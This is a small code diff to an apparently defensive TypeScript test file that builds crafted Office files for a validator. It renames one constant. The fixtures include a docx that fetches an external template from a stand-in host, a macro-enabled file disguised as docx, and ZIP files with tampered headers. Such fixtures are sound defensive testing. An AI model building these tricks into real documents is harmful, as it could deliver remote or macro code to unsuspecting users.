@@ -196,7 +196,7 @@ function zipTricks(): Trick[] {
   const list = (type: string, more?: string) => makeZip(docxParts(type, more))
   const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
   const macros = 'application/vnd.ms-office.vbaProject'
-  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+  const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
   const shifted = Buffer.from(docx)
   shifted.writeUInt32LE(0xfffffff0, shifted.length - 6)
   const many = Buffer.from(docx)
@@ -214,7 +214,7 @@ function zipTricks(): Trick[] {
       'docx that fetches its template',
       withPart({
         name: 'word/_rels/settings.xml.rels',
-        text: `<Relationships><Relationship Id="r" Type="${office}/attachedTemplate" Target="https://elsewhere.example/t.dotm" TargetMode="External"/></Relationships>`,
+        text: `<Relationships><Relationship Id="r" Type="${relationships}/attachedTemplate" Target="https://elsewhere.example/t.dotm" TargetMode="External"/></Relationships>`,
       }),
     ],
     ['docm called docx', list('application/vnd.ms-word.document.macroEnabled.main+xml')],
